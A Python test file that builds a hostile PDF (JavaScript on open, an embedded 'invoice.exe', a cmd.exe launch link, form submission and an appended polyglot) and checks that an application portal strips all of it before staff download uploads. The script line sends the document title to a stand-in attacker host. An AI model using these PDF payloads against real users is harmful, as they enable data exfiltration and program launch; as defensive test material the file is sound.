"""Uploaded PDFs are rewritten before anyone downloads them: no script, action, embedded file, form or launch remains.

A hostile PDF is built with pikepdf: JavaScript run on opening (/OpenAction) and on a page (/AA), a JavaScript name
tree, an embedded executable (in the name tree and as a file-attachment annotation), a form field with a submit
action, a link that launches a program, and a second file appended after %%EOF. The applicant uploads it through the
page; the staff member who verifies the case downloads it; pikepdf reads what they got.
"""

from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from sqlalchemy import select

from services import materials
from services.applications import ApplicationModel
from tests.fixtures import csrf_token, sign_in

PAYLOAD = b"MZ-this-would-be-a-program"
SCRIPT = "app.launchURL('https://attacker.example/' + this.info.Title)"
ACTING = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/AcroForm",
          "/Launch", "/SubmitForm", "/FileAttachment", "/Widget", "/Annots"}


def hostile_pdf() -> bytes:
    """Return a one-page PDF carrying every way a reader could be made to act."""
    pdf = Pdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    pdf.Root.OpenAction = script
    page.AA = Dictionary(O=script)
    payload = pdf.make_stream(PAYLOAD)
    payload.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])),
                                JavaScript=Dictionary(Names=Array([String("open"), script])))
    attachment = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                              Rect=Array([10, 10, 30, 30]), FS=spec))
    launch = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([40, 10, 90, 30]),
                                          A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))
    field = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
                                         Rect=Array([100, 10, 200, 30]), P=page,
                                         AA=Dictionary(K=Dictionary(S=Name.SubmitForm,
                                                                    F=String("https://attacker.example/")))))
    page.Annots = Array([attachment, launch, field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    out = BytesIO()
    pdf.save(out)
    # A second document appended after the first one's %%EOF (a polyglot): readers differ on which one they show.
    return out.getvalue() + b"\n%PDF-1.7\n% " + SCRIPT.encode() + b"\n%%EOF\n"


def acting_parts(data: bytes) -> list[str]:
    """Return every acting key or type found anywhere in the PDF, and the payloads if their bytes remain."""
    found = [text for text in (SCRIPT, PAYLOAD.decode()) if text.encode() in data]
    with Pdf.open(BytesIO(data)) as pdf:
        for obj in pdf.objects:
            dictionary = obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj
            if not isinstance(dictionary, Dictionary):
                continue
            found += [key for key in dictionary.keys() if key in ACTING]  # noqa: SIM118 - pikepdf keys
            found += [str(value) for key in ("/S", "/Subtype", "/Type") if str(value := dictionary.get(key)) in ACTING]
            found += [f"{key} in {obj}" for key in dictionary.keys() if key == "/A"]  # noqa: SIM118
        for page in pdf.pages:
            found += [key for key in page.obj.keys() if key in ACTING]  # noqa: SIM118
    return found


def test_the_hostile_sample_carries_every_attack():
    assert len(acting_parts(hostile_pdf())) >= 8


@pytest.fixture
def draft(session, people):
    from services import applications

    application = applications.start(session, people.citizen.id, "first_child")
    session.commit()
    return application


def _upload(client, token, data):
    page = client.get(f"/apply/{token}/materials")
    return client.post(f"/apply/{token}/materials", content_type="multipart/form-data", data={
        "csrf_token": csrf_token(page.text), "kind": "hukou_book", "file": (BytesIO(data), "户口本.pdf")})


def test_staff_download_the_pdf_without_scripts_actions_embedded_files_or_forms(session, people, client, draft):
    sign_in(client, people.citizen)
    assert _upload(client, draft.token, hostile_pdf()).status_code == 302
    [material] = materials.of_application(session, session.scalar(
        select(ApplicationModel).where(ApplicationModel.id == draft.id)))
    download = client.get(f"/materials/{material.token}")
    assert download.status_code == 200
    assert download.mimetype == "application/pdf"
    assert acting_parts(download.data) == []
    with Pdf.open(BytesIO(download.data)) as pdf:
        assert len(pdf.pages) == 1, "what is drawn stays"


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n",
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\ntrailer\n<< /Root 7 0 R >>\n%%EOF\n",
])
def test_a_malformed_pdf_is_refused_in_chinese(session, people, client, draft, data):
    sign_in(client, people.citizen)
    response = _upload(client, draft.token, data)
    assert response.status_code == 200
    assert "PDF 文件不完整或已损坏，请重新导出后上传" in response.text
    assert materials.of_application(session, draft) == []
